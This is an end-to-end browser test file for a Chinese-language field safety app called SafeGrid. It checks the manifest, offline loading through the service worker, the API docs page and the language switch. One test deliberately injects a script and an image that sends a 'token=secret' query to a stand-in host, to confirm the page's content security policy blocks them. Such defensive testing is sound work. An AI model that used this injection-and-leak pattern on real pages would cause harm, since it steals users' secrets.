"""The field app's shell in a real browser: Chinese, installable, and opening with no signal."""

import io

import pytest
from PIL import Image
from playwright.sync_api import expect

from tests.e2e.live import wait_until_controlled

pytestmark = pytest.mark.e2e


def test_the_app_opens_in_chinese_on_the_login_screen(page):
    resp = page.goto("/")
    assert resp.status == 200
    expect(page.locator("html")).to_have_attribute("lang", "zh-CN")
    expect(page.locator("input[type=password]")).to_be_visible()  # nobody is signed in yet


def test_the_app_can_be_installed_from_its_manifest(page):
    page.goto("/")
    resp = page.request.get(page.locator("link[rel=manifest]").get_attribute("href"))
    assert resp.ok and resp.headers["content-type"].startswith(("application/manifest+json", "application/json"))
    manifest = resp.json()
    assert "安全网格" in manifest["name"] and manifest["short_name"]
    assert manifest["display"] in ("standalone", "fullscreen", "minimal-ui")
    assert page.request.get(manifest["start_url"]).ok
    sizes = set()
    for icon in manifest["icons"]:
        image = page.request.get(icon["src"])
        assert image.ok, icon["src"]
        width, height = Image.open(io.BytesIO(image.body())).size
        assert icon["sizes"] == f"{width}x{height}", icon
        sizes.add(width)
    assert {192, 512} <= sizes


def test_after_one_visit_the_app_opens_offline_from_its_service_worker(page, context):
    page.goto("/")
    wait_until_controlled(page)
    assert page.evaluate("navigator.serviceWorker.controller.scriptURL").endswith("/sw.js")

    context.set_offline(True)
    resp = page.reload()
    assert resp.from_service_worker
    expect(page.locator("html")).to_have_attribute("lang", "zh-CN")
    expect(page.locator("input[type=password]")).to_be_visible()


def test_the_app_runs_under_a_policy_that_refuses_injected_code(page, csp):
    page.goto("/")
    expect(page.locator("input[type=password]")).to_be_visible()
    # what an injection would try: a script element of its own, and an image that carries data elsewhere
    page.evaluate("""() => {
      const script = document.createElement('script');
      script.textContent = 'window.injected = 1';
      document.head.append(script);
      const image = document.createElement('img');
      image.src = 'http://127.0.0.2:9/leak.png?token=secret';
      document.body.append(image);
    }""")
    assert page.evaluate("window.injected") is None
    for _ in range(50):  # the reports reach the test asynchronously
        if len(csp.violations) >= 2:
            break
        page.wait_for_timeout(100)
    assert sorted(v.split()[0] for v in csp.violations) == ["img-src", "script-src-elem"], csp.violations
    csp.violations.clear()  # seen: the watch works, and these two were the test's own


def test_the_api_docs_page_works_under_its_own_policy(page):
    page.goto("/api/docs")
    expect(page.locator(".swagger-ui .info .title")).to_contain_text("SafeGrid")
    expect(page.locator(".opblock").first).to_be_visible()  # the document loaded and was drawn


def test_the_screens_loaded_when_first_opened_open_offline_and_so_does_english(page, context, sign_in, demo_site):
    """The report form, a hazard, a checklist, settings and the English strings are chunks of their own, loaded
    when first needed: after one visit the service worker has them all, so none needs the network."""
    sign_in("demo-grid")
    wait_until_controlled(page)
    page.get_by_role("link", name="设置").click()
    expect(page.get_by_test_id("offline-status")).to_have_text("已可离线使用", timeout=60_000)  # the checklists too
    context.set_offline(True)
    assert page.reload().from_service_worker
    page.get_by_role("link", name="首页").click()
    expect(page.get_by_role("heading", name="今日工作")).to_be_visible()

    page.get_by_role("region", name="未办结隐患").locator("a[href^='#/hazard/']").first.click()
    expect(page.locator("main h1")).to_be_visible()  # the hazard's category; a screen not loaded has none
    expect(page.get_by_text("此页面暂时无法打开")).to_have_count(0)
    page.evaluate(f"location.hash = '#/inspect/{demo_site['id']}'")
    expect(page.get_by_test_id("checklist").first).to_be_visible()
    page.evaluate(f"location.hash = '#/report/{demo_site['id']}'")
    expect(page.get_by_role("heading", name="报告隐患")).to_be_visible()
    expect(page.get_by_label("消防安全")).to_be_visible()

    page.get_by_role("link", name="设置").click()
    page.get_by_label("English").check()
    expect(page.get_by_role("heading", name="Settings")).to_be_visible()
    page.reload()  # still offline: the English strings come from the service worker too
    expect(page.locator("html")).to_have_attribute("lang", "en")
    expect(page.get_by_role("heading", name="Settings")).to_be_visible()
    page.get_by_role("link", name="Home").click()
    expect(page.get_by_role("heading", name="Today's work")).to_be_visible()
